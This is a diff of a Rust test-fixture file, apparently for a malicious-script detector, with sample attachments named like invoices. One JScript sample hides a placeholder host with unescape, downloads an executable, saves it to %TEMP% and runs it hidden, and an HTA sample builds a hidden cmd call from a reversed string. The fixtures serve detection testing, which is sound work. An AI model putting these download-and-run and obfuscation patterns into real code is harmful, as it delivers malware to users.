@@ -11,7 +11,8 @@ web.open('GET', 'http://files.' + unescape('%65xample') + '/a.exe', false);\r\nw
 var out = new ActiveXObject('ADODB.Stream');\r\nout.Type = 1; out.Open(); out.Write(web.responseBody);\r\n\
 out.SaveToFile('%TEMP%\\\\a.exe', 2);\r\nnew ActiveXObject('WScript.Shell').Run(String.fromCharCode(37) + 'TEMP%\\\\a.exe', 0);\r\n";
 
-const HTA: &[u8] = b"<html><head><HTA:APPLICATION ID=\"a\"><script language=\"VBScript\">\r\nDim s\r\ns = StrReverse(\"c/ dmc\")\r\n\
+const HTA: &[u8] =
+    b"<html><head><HTA:APPLICATION ID=\"a\"><script language=\"VBScript\">\r\nDim s\r\ns = StrReverse(\"c/ dmc\")\r\n\
 CreateObject(\"WScript.Shell\").Run s & \" echo unopened\", 0\r\n</script></head><body></body></html>";
 
 const WSF: &[u8] = b"<job><script language=\"JScript\"><![CDATA[\r\nvar shell = 'WScript';\r\n]]></script><script language=\"JScript\"><![CDATA[\r\n\
@@ -25,7 +26,8 @@ const HONEST: &str = "Private Sub Workbook_Open()\n    Dim s\n    Set s = Create
     s.AddCode \"function keys(o) { var k = []; for (var i in o) { k.push(i); } return k; }\"\nEnd Sub";
 
 pub(crate) fn fixtures() -> Vec<Fixture> {
-    let book = |source: &str| Package::excel(true).macros(&vba_project(&[Module::document("ThisWorkbook", source)])).build();
+    let book =
+        |source: &str| Package::excel(true).macros(&vba_project(&[Module::document("ThisWorkbook", source)])).build();
     vec![
         Fixture::new("script-downloader", "invoice.js", DOWNLOADER.to_vec()),
         Fixture::new("script-hta", "invoice.hta", HTA.to_vec()),
